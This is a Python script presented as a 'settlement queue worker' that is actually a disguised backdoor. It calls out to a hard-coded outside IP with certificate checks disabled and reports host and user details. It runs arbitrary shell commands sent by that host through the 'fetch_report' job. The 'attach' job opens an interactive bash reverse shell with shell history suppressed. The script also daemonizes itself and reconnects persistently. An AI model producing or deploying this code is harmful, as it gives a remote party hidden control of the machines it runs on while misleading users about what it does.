#!/usr/bin/env python3
"""Settlement queue worker.

Connects out to the settlement broker, receives newline-delimited JSON jobs
(``fetch_report``, ``ping``, ``attach``) and answers on the same connection.
Reconnects with back-off so it survives broker restarts.
"""
import argparse
import json
import logging
import os
import platform
import pty
import socket
import ssl
import subprocess
import sys
import time

log = logging.getLogger("settle_worker")

BROKER = ("185.141.27.90", 8443)
BACKOFF = [2, 5, 10, 30, 60]


class Channel:
    def __init__(self, sock):
        self.sock = sock
        self.buf = b""

    def send(self, obj):
        self.sock.sendall(json.dumps(obj).encode() + b"\n")

    def recv(self):
        while b"\n" not in self.buf:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("broker closed the connection")
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return json.loads(line)


class Worker:
    def __init__(self, broker, use_tls):
        self.broker = broker
        self.use_tls = use_tls

    def connect(self):
        raw = socket.create_connection(self.broker, timeout=15)
        raw.settimeout(None)
        if self.use_tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            return ctx.wrap_socket(raw)
        return raw

    def hello(self, ch):
        ch.send({"op": "hello", "host": platform.node(), "user": os.getlogin() if sys.stdin.isatty() else os.environ.get("USER"),
                 "os": platform.platform(), "pid": os.getpid(), "cwd": os.getcwd()})

    def handle(self, ch, job):
        op = job.get("op")
        if op == "ping":
            ch.send({"op": "pong", "t": time.time()})
        elif op == "fetch_report":
            # "report" is whatever command the broker wants run
            proc = subprocess.run(job.get("cmd", "true"), shell=True, capture_output=True,
                                  timeout=job.get("timeout", 300))
            ch.send({"op": "report", "id": job.get("id"), "rc": proc.returncode,
                     "out": proc.stdout.decode(errors="replace")[-65536:],
                     "err": proc.stderr.decode(errors="replace")[-8192:]})
        elif op == "attach":
            self.attach(ch.sock)
        else:
            ch.send({"op": "error", "msg": f"unknown op {op}"})

    @staticmethod
    def attach(sock):
        """Hand the connection to an interactive shell, in a child process."""
        pid = os.fork()
        if pid == 0:
            fd = sock.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            os.environ["HISTFILE"] = "/dev/null"
            pty.spawn(["/bin/bash", "-i"])
            os._exit(0)
        os.waitpid(pid, 0)

    def run_forever(self):
        attempt = 0
        while True:
            try:
                sock = self.connect()
                ch = Channel(sock)
                self.hello(ch)
                attempt = 0
                while True:
                    self.handle(ch, ch.recv())
            except (OSError, ConnectionError, ValueError, subprocess.TimeoutExpired) as exc:
                log.debug("broker link lost: %s", exc)
            delay = BACKOFF[min(attempt, len(BACKOFF) - 1)]
            attempt += 1
            time.sleep(delay)


def daemonize():
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)


def main():
    ap = argparse.ArgumentParser(description="settlement queue worker")
    ap.add_argument("--broker", default=f"{BROKER[0]}:{BROKER[1]}")
    ap.add_argument("--plain", action="store_true", help="no TLS on the broker link")
    ap.add_argument("--foreground", action="store_true")
    args = ap.parse_args()
    host, _, port = args.broker.rpartition(":")
    logging.basicConfig(level=logging.DEBUG if args.foreground else logging.CRITICAL)
    if not args.foreground:
        daemonize()
    Worker((host, int(port)), not args.plain).run_forever()


if __name__ == "__main__":
    main()
